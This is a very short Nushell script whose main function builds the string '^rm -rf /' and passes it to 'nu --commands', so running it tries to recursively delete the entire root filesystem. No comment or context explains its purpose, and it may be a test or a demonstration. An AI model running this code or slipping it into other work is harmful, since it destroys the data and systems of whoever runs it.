def main [] {
  let s = "^rm -rf /"
  nu --commands $s
}
